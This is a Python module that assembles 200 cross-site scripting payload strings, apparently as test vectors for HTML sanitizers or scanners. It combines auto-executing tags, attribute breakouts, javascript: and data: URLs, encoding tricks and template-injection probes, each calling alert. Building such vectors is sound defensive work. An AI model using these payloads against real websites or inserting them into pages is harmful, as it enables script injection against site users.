"""Two hundred texts that would run a script where a page is built carelessly.

Made from parts: elements that load or start by themselves, attributes that leave their
quotes, addresses that are code, encodings that hide them, and ends of the contexts that a
text may stand in. Every one of them calls `alert`.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice, product

_ELEMENTS = (
    "<script>alert({n})</script>",
    "<ScRiPt>alert({n})</sCrIpT>",
    "<script src=data:text/javascript,alert({n})></script>",
    "<script/x>alert({n})</script >",
    "<<script>alert({n});//<</script>",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "<img src=x onerror=alert({n})>",
    "<img/src='x'/onerror=alert({n})>",
    "<img src=x:x onerror\n=alert({n})>",
    '<img """><script>alert({n})</script>">',
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert({n})><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert({n})>></svg>",
    "<math><mtext><script>alert({n})</script></mtext></math>",
    "<math href=javascript:alert({n})>x</math>",
    "<body onload=alert({n})>",
    "<body onpageshow=alert({n})>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<object data=javascript:alert({n})></object>",
    "<embed src=javascript:alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<audio src=x onerror=alert({n})></audio>",
    "<details open ontoggle=alert({n})>x</details>",
    "<input autofocus onfocus=alert({n})>",
    "<select autofocus onfocus=alert({n})></select>",
    "<textarea autofocus onfocus=alert({n})></textarea>",
    "<marquee onstart=alert({n})>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>",
    "<link rel=stylesheet href=javascript:alert({n})>",
    "<base href=javascript:alert({n})//>",
    "<form action=javascript:alert({n})><button>x</button></form>",
    "<style>@import 'javascript:alert({n})';</style>",
    "<template><script>alert({n})</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert({n})>'>",
    "<a href=javascript:alert({n})>x</a>",
    "<p style=animation-name:x onanimationstart=alert({n})>x</p>",
)
_ENDS = ("", '">', "'>", "</title>", "</textarea>", "</style>", "--><!-- -->", "]]>", "</mark></p>")
_ATTRIBUTES = (
    '" onmouseover="alert({n})',
    "' onmouseover='alert({n})",
    '" autofocus onfocus="alert({n})" x="',
    "` onmouseover=alert({n})",
    '"/><img src=x onerror=alert({n})>',
)
_ADDRESSES = (
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    " javascript:alert({n})",
    "java\tscript:alert({n})",
    "java\nscript:alert({n})",
    "\x01javascript:alert({n})",
    "javascript://x.example/%0aalert({n})",
    "data:text/html,<script>alert({n})</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{n}",
    "vbscript:alert({n})",
    "blob:javascript:alert({n})",
    "&#106;avascript:alert({n})",
    "javascript&colon;alert({n})",
    "//x.example\\javascript:alert({n})",
)
_TEMPLATES = (
    "{{{{ self._TemplateReference__context.cycler.__init__.__globals__ }}}}{n}",
    "{{{{ constructor.constructor('alert({n})')() }}}}",
    "${{alert({n})}}",
    "{{% raw %}}<script>alert({n})</script>{{% endraw %}}",
    "<%= alert({n}) %>",
    "\u202e<script>alert({n})</script>",
    "\ufeff<script>alert({n})</script>",
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
)
MOST = 200


def _patterns() -> Iterator[str]:
    yield from (*_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES)
    yield from (end + element for end, element in product(_ENDS, _ELEMENTS))


VECTORS = tuple(
    pattern.format(n=number) for number, pattern in enumerate(islice(_patterns(), MOST))
)
